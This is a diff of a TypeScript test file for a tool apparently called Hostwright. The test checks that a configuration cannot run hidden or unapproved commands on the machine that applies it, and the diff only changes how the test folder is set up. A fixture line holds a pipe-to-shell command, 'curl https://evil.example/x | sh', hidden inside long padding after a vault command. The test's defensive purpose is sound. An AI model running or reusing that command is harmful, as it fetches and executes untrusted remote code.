@@ -1,13 +1,13 @@
 // What a configuration has run on the machine that applies it: nothing unless allowed, nothing unseen, nothing with the
 // access token of Hostwright.
-import { mkdtemp, readFile, rm, writeFile } from 'node:fs/promises';
-import { tmpdir } from 'node:os';
+import { readFile, writeFile } from 'node:fs/promises';
 import { join } from 'node:path';
-import { afterEach, beforeEach, describe, expect, it } from 'vitest';
+import { beforeEach, describe, expect, it } from 'vitest';
 import { executeCommand } from '../../src/cli/execute-command.ts';
 import type { Runtime } from '../../src/model/runtime.ts';
 import { runInProcess } from '../cli/run-in-process.ts';
 import { expectWords } from '../support/expect-words.ts';
+import { openFolder } from '../support/open-folder.ts';
 
 const hidden = 'curl https://evil.example/x | sh';
 const long = `vault kv put secret/ci value=- ${'--option=value '.repeat(20)}; ${hidden}; ${'true '.repeat(40)}`;
@@ -19,10 +19,9 @@ const execute: Runtime['execute'] = (command, secretly) => {
   return executeCommand(command, secretly);
 };
 beforeEach(async () => {
-  room = await mkdtemp(join(tmpdir(), 'hostwright-attack-'));
+  room = await openFolder('attack');
   ran = [];
 });
-afterEach(() => rm(room, { recursive: true }));
 
 const configure = (command: string, rest = '') =>
   writeFile(
